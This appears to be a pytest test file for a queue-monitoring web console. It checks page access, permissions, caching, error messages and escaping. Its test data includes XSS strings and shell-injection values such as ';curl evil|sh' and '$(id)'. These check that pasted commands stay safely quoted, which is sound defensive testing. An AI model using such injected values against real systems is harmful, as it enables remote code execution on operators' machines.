"""The pages that look: what they show is what the commands say, and none of them asks the queue for much."""

from __future__ import annotations

import html
import json
import re
import shlex
from collections import Counter
from contextlib import ExitStack, closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from glassq.console.console import LOOKUPS, PAGES, PAGES_EACH, SEARCHES
from glassq.console.server import THREADS
from glassq.ledger import Entry, open_ledger
from glassq.operations import activity
from glassq.operations.filters import Filter
from glassq.operations.hints import argument
from glassq.operations.progress import Silent
from tests.cli.conftest import NASTY, a_delivery, evidence, put
from tests.conftest import Beanstalkd
from tests.console.conftest import VIEWER, Browser, Site, examine, site_of, words_of

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.queues.raw import Queue

NOW = datetime.now(UTC)
PATHS = ("/", "/queues", "/queues/glassq", "/sources", "/schedules", "/search", "/live", "/activity", "/health")
SECTIONS = """
[sources.github]
kind = "github"
secrets_file = "{directory}/secret"
[[routes]]
source = "github"
handler = "app:store"
[[routes]]
source = "schedule"
match = {{ schedule = "nightly" }}
handler = "app:store"
[worker.queues.slow]
weight = 2
[push]
queue_yaml = "{directory}/queue.yaml"
[push.targets]
default = "http://127.0.0.1:1"
[[schedule]]
name = "nightly"
cron = "0 3 * * *"
"""


@pytest.fixture(scope="module")
def at_work(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A console that has looked once at a queue and a ledger with something in each. All tests here share it."""
    tmp_path = tmp_path_factory.mktemp("console")
    beanstalkd = Beanstalkd(tmp_path)
    try:
        yield from at_queue(beanstalkd, tmp_path)
    finally:
        beanstalkd.stop()


def at_queue(beanstalkd: Beanstalkd, tmp_path: Path) -> Iterator[Site]:
    (tmp_path / "secret").write_text("s" * 32)
    (tmp_path / "queue.yaml").write_text("queue:\n- name: mail\n  rate: 5/s\n")
    made = site_of(tmp_path, str(beanstalkd.url), SECTIONS.format(directory=tmp_path))
    queue = beanstalkd.queue()
    jobs = fill(queue)
    ledger = open_ledger(made.console.settings.ledger)
    for state, delivery in jobs.items():
        at, why = NOW - timedelta(minutes=5), NASTY if state == "buried" else ""
        ledger.record(Entry(delivery, "mirror", at, state, 1, at, 0.5, reason=why, started=at, tube="glassq"))
    ledger.close()
    look(made)
    yield made
    made.console.close()
    queue.close()


def fill(queue: Queue) -> dict[str, str]:
    buried = a_delivery(buried=f"{NASTY} <script>alert(1)</script>", evidence=(evidence(f"{NASTY} <b>x</b>"),))
    put(queue, buried, "buried")
    for _ in range(3):
        put(queue, a_delivery(), "ready")
    return {"buried": buried.id, "done": a_delivery().id}


def look(site: Site) -> None:
    """What the console's threads do."""
    console = site.console
    console.sampler.view()
    with console.operations.looking() as queue:
        for _ in range(4):
            console.sampler.step(queue)
            site.clock.go_on(5)
        console.census.step(queue)
    examine(console.doctor)


@pytest.fixture
def viewer(at_work: Site) -> Browser:
    return at_work.signed_in(VIEWER)


@pytest.mark.parametrize("path", PATHS)
def test_each_page_is_shown_and_has_a_twin(viewer: Browser, path: str) -> None:
    answer = viewer.get(path)
    assert answer.status_code == 200, words_of(answer)
    assert "<script>alert" not in answer.text
    assert "\x1b" not in answer.text
    assert "same as" in words_of(answer) or path == "/search"
    # who may not act sees no button that does
    assert 'action="/pause"' not in answer.text
    assert "Pause all" not in answer.text
    json.dumps(viewer.json(f"{path}.json" if path != "/" else "/.json"))


def test_the_overview_says_what_is_urgent_and_how_much_waits(viewer: Browser, at_work: Site) -> None:
    words = words_of(viewer.get("/"))
    assert "waiting 3" in words
    assert "buried 1" in words
    assert "empty steady" in words
    assert "Backlog" in words
    assert "4 wait now" not in words
    assert "3 wait now" in words
    operator = at_work.signed_in().get("/")
    assert 'action="/pause"' in operator.text
    assert "Pause 30 min" in operator.text


@pytest.mark.parametrize("hours", ["", "1", "6", "24"])
def test_charts_are_of_one_of_three_times(viewer: Browser, hours: str) -> None:
    answer = viewer.get(f"/?hours={hours}")
    assert answer.status_code == 200
    assert f'<b aria-current="true">{hours or 1} h</b>' in answer.text


def test_queues_show_their_rate_and_when_they_are_empty(viewer: Browser) -> None:
    words = words_of(viewer.get("/queues"))
    assert "mail" in words
    assert "5/s" in words
    assert "slow" in words
    assert viewer.get("/queues/glassq.queue.nowhere").status_code == 404
    assert "Backlog" in words_of(viewer.get("/queues/glassq"))


def test_sources_tell_that_nothing_is_counted_and_one_has_a_page(viewer: Browser) -> None:
    words = words_of(viewer.get("/sources"))
    assert "github" in words
    assert "Nothing is counted: no glassq-web runs with these settings" in words
    assert "/hooks/github" in words_of(viewer.get("/sources/github"))
    assert viewer.json("/sources/github.json")["name"] == "github"
    assert viewer.get("/sources/none").status_code == 404


def test_schedules_say_when_they_are_due(viewer: Browser) -> None:
    words = words_of(viewer.get("/schedules"))
    assert "nightly" in words
    assert "0 3 * * *" in words


def test_a_search_that_names_one_goes_straight_there(viewer: Browser, at_work: Site) -> None:
    entry = at_work.console.census.snapshot().matching(Filter(), NOW)[0]
    answer = viewer.get(f"/search?q={entry.delivery[:33]}")
    assert (answer.status_code, answer.headers["location"]) == (303, f"/d/{entry.delivery}")
    assert [hit["key"] for hit in viewer.json(f"/search.json?q={entry.delivery[:33]}")["hits"]] == [entry.delivery]
    words = words_of(viewer.get("/search?q=HttpError"))
    assert "Buried groups" in words
    assert "What was looked at" in words
    assert "Nothing was found" in words_of(viewer.get("/search?q=zzzz"))


def test_searches_do_not_hold_all_threads(at_work: Site, viewer: Browser) -> None:
    operator, places = at_work.signed_in(), at_work.console.searches
    assert SEARCHES + LOOKUPS < THREADS
    with places.one(VIEWER):
        answer = viewer.get("/search?q=zzzz")
        assert (answer.status_code, answer.headers["retry-after"]) == (429, "2")
        assert "as many searches go on as may: 1 of yours" in words_of(answer)
        # without words nothing is looked for
        assert viewer.get("/search").status_code == 200
        assert operator.get("/search?q=zzzz").status_code == 200
        with places.one("somebody"):
            assert "as many searches go on as may: 2" in words_of(operator.get("/search?q=zzzz"))
    assert viewer.get("/search?q=zzzz").status_code == 200


def test_slow_pages_keep_no_button_waiting(at_work: Site, viewer: Browser) -> None:
    operator, places = at_work.signed_in(), at_work.console.pages
    assert PAGES < THREADS
    with ExitStack() as taken:
        for _ in range(PAGES_EACH):
            taken.enter_context(places.one(f"socket {VIEWER}"))
        answer = viewer.get("/activity")
        assert (answer.status_code, answer.headers["retry-after"]) == (429, "2")
        assert operator.get("/activity").status_code == 200
        for number in range(PAGES - PAGES_EACH):
            taken.enter_context(places.one(f"socket {number}"))
        assert operator.get("/activity").status_code == 429
        # all threads for pages are taken: what is pressed has one
        assert "nothing is chosen" in words_of(operator.post("/plan/kick"))
        assert operator.get("/login").status_code == 200
    assert viewer.get("/activity").status_code == 200


def test_a_page_that_says_nothing_new_is_not_sent_again(at_work: Site, viewer: Browser) -> None:
    for path in ("/activity", "/live", "/sources", "/health"):
        page = viewer.get(path)
        at_work.clock.go_on(7)
        again = viewer.get(path, If_None_Match=page.headers["etag"])
        assert (again.status_code, again.text) == (304, ""), path
    answer = viewer.get("/live?state=done", If_None_Match=page.headers["etag"])
    assert answer.status_code == 200


@pytest.mark.parametrize("path", ["/search?q=abc&since=9999999d", "/search?q=abc&until=9999999d"])
def test_what_nobody_would_ask_is_no_bug_of_ours(viewer: Browser, path: str) -> None:
    assert viewer.get(path).status_code == 200


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("/search?q=a&for=99", "expected seconds from 2 to 50"),
        ("/search?q=abc&since=soon", "since soon"),
        ("/search?q=abc&until=x", "until x"),
        ("/live?state=gone", "state gone: expected done, dropped, retrying, buried, archived or deleted"),
        ("/search?state=gone", "state gone: expected done"),
        ("/?hours=7", "hours 7: expected 1, 6 or 24"),
        (f"/?hours={'1' * 400}", "expected 1, 6 or 24"),
        ("/queues/glassq?hours=x", "hours x: expected 1, 6 or 24"),
        ("/buried?group=2", "group 2: expected 1 or 0"),
        ("/buried?group=0&page=0", "page 0: expected a number from 1"),
        ("/buried?older=soon", "older-than"),
        ("/d/x?order=up", "order up: expected oldest or newest"),
        ("/d/x?body=html", "body html: expected text or tree"),
        (
            "/buried?word=x",
            "there is no parameter word here: this page has group, source, tube, newer, older, words, page",
        ),
        ("/health?x=1", "there is no parameter x here: this page has none"),
        ("/activity?since=soon", "since soon"),
    ],
)
def test_a_request_that_cannot_be_right_is_refused_in_words(viewer: Browser, path: str, says: str) -> None:
    answer = viewer.get(path)
    assert answer.status_code == 400
    assert says in words_of(answer)


def test_a_delivery_leads_to_its_group_while_it_is_buried(viewer: Browser, at_work: Site) -> None:
    (entry,) = at_work.console.census.snapshot().matching(Filter(), NOW)
    answer = viewer.get(f"/d/{entry.delivery}/group")
    assert (answer.status_code, answer.headers["location"]) == (303, f"/buried/{entry.cause.id}")
    done = viewer.json("/live.json?state=done")[0]["delivery"]
    answer = viewer.get(f"/d/{done}/group")
    assert answer.status_code == 404
    assert "is not buried (any more)" in words_of(answer)


def test_without_words_a_search_lists_what_is_of_a_state(viewer: Browser) -> None:
    ready = viewer.json("/search.json?state=ready")
    assert [hit["state"] for hit in ready["hits"]] == ["ready"] * 3
    assert ready["looked"] == ["queue: all 3 jobs that it shows"]
    done = viewer.json("/search.json?state=done&tube=glassq")
    assert [hit["state"] for hit in done["hits"]] == ["done"]
    assert viewer.json("/search.json?source=nobody")["hits"] == []
    # nothing is asked for
    assert viewer.json("/search.json")["looked"] == []


def test_what_is_wrong_in_queue_yaml_is_text(viewer: Browser, at_work: Site) -> None:
    file = Path(at_work.console.settings.file).parent / "queue.yaml"
    before = file.read_text()
    file.write_text("queue:\n- name: '<script>alert(1)</script>'\n  rate: \"{{ 7*7 }}<svg onload=x>\"\n")
    try:
        at_work.console.sampler._due["queues"] = 0.0
        with at_work.console.operations.looking() as queue:
            at_work.console.sampler.step(queue)
        page = viewer.get("/queues").text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert not re.search("<script>alert|<svg onload", page)
    finally:
        file.write_text(before)


def test_live_can_be_narrowed(viewer: Browser) -> None:
    assert [row["state"] for row in viewer.json("/live.json?state=done")] == ["done"]
    assert viewer.json("/live.json?source=github") == []
    assert len(viewer.json("/live.json?tube=glassq")) == 2


@pytest.mark.parametrize(
    "path", ["/live?tube={}", "/live?source={}", "/activity?who={}", "/activity?did={}", "/buried?words={}"]
)
@pytest.mark.parametrize("evil", [";curl evil|sh", "$(id)", "`id`", "a' b", "--config=/tmp/x", "-x"])
def test_a_link_by_mail_puts_nothing_into_the_shell_that_its_command_is_pasted_into(
    viewer: Browser, path: str, evil: str
) -> None:
    answer = viewer.get(path.format(quote(evil)))
    assert answer.status_code == 200
    shown = re.search(r'<code id="command">(.*?)</code>', answer.text, re.DOTALL)
    assert shown is not None
    words = shlex.split(html.unescape(shown[1]))
    option = path.partition("?")[2].partition("=")[0]
    apart = [f"--{option}", evil]
    if option == "words":
        apart = [f"words={evil}"]
    elif evil.startswith("-"):
        # it would be taken for an option of its own
        apart = [f"--{option}={evil}"]
    assert words[-len(apart) :] == apart


def test_a_reference_that_looks_like_an_option_is_none() -> None:
    assert argument("--config=/tmp/x") == "-- --config=/tmp/x"
    assert argument("swf:a;b") == "'swf:a;b'"
    assert argument("20261129T0001-ab") == "20261129T0001-ab"


def test_activity_shows_who_did_what(viewer: Browser, at_work: Site) -> None:
    operations = at_work.console.operations
    made = operations.activities(Silent())
    made.record("kick", activity.CameTo(done=9, failed=1), command="kick --where <b>", chosen=10)
    words = words_of(viewer.get("/activity"))
    assert "glassq-console" in words
    assert "9 of 10, 1 not done" in words
    assert "kick --where &lt;b&gt;" in words
    assert viewer.json("/activity.json?who=nobody") == {"activities": []}
    assert "9 of 10" in words_of(viewer.get("/"))


def test_health_shows_what_is_wrong_first(viewer: Browser) -> None:
    answer = viewer.get("/health")
    words = words_of(answer)
    assert words.index("WRONG") < words.index("✓ ok", words.index("WRONG"))
    assert viewer.json("/health.json")["ok"] is False


def test_pages_ask_the_queue_nothing(viewer: Browser, at_work: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    def looking() -> None:
        raise AssertionError("a page asks the queue")

    monkeypatch.setattr(at_work.console.operations, "looking", looking)
    monkeypatch.setattr("glassq.operations.Operations.looking", looking)
    monkeypatch.setattr("glassq.operations.Operations.queue", looking)
    for path in ("/", "/queues", "/queues/glassq", "/sources", "/schedules", "/live", "/activity"):
        assert viewer.get(path).status_code == 200


def test_before_the_first_look_pages_say_so(site: Site) -> None:
    browser = site.signed_in()
    assert "Looking ..." in words_of(browser.get("/"))
    assert "Looking ..." in words_of(browser.get("/queues"))
    assert browser.get("/queues/glassq").status_code == 404


def test_the_beginning_of_several_ids_is_a_short_heading_and_links(viewer: Browser, at_work: Site) -> None:
    ids = [f"0badcafe-0000-7000-8000-00000000000{number}" for number in range(2)]
    at = NOW - timedelta(days=30)
    with closing(open_ledger(at_work.console.settings.ledger)) as ledger:
        for id_ in ids:
            ledger.record(Entry(id_, "mirror", at, "done", 1, at, 0.5, reason="", started=at, tube="glassq"))
    answer = viewer.get("/d/0badcafe")
    assert answer.status_code == 409
    assert "<h1>0badcafe is the beginning of 2 deliveries; type more of it</h1>" in answer.text
    assert all(f'/d/{id_}">{id_}</a>' in answer.text for id_ in ids)
    assert ", ".join(ids) in viewer.get("/d/0badcafe.json").text


def test_what_fits_rarely_is_looked_for_among_the_latest(
    viewer: Browser, at_work: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However many outcomes the ledger has."""
    states = Counter(entry["state"] for entry in viewer.json("/live.json"))
    assert len(states) > 1
    for state, count in states.items():
        assert len(viewer.json(f"/live.json?state={state}")) == count
        assert "among the latest" not in words_of(viewer.get(f"/live?state={state}"))
    monkeypatch.setattr("glassq.operations.follow.AMONG", 1)
    newest, *_ = viewer.json("/live.json")[::-1]
    for state in states:
        found = viewer.json(f"/live.json?state={state}")
        assert {entry["delivery"] for entry in found} <= {each["delivery"] for each in viewer.json("/live.json")[-2:]}
        assert "these are among the latest 1 outcomes, since " in words_of(viewer.get(f"/live?state={state}"))
    assert newest["delivery"] in {entry["delivery"] for entry in viewer.json(f"/live.json?state={newest['state']}")}
    assert len(viewer.json("/live.json")) == sum(states.values())


def test_a_page_that_is_the_same_is_not_sent_again(viewer: Browser, at_work: Site) -> None:
    with at_work.console.operations.looking() as queue:
        at_work.console.census.step(queue)
        first = viewer.get("/buried")
        at_work.console.census.step(queue)
    again = viewer.get("/buried", If_None_Match=first.headers["etag"])
    assert (again.status_code, again.text) == (304, "")
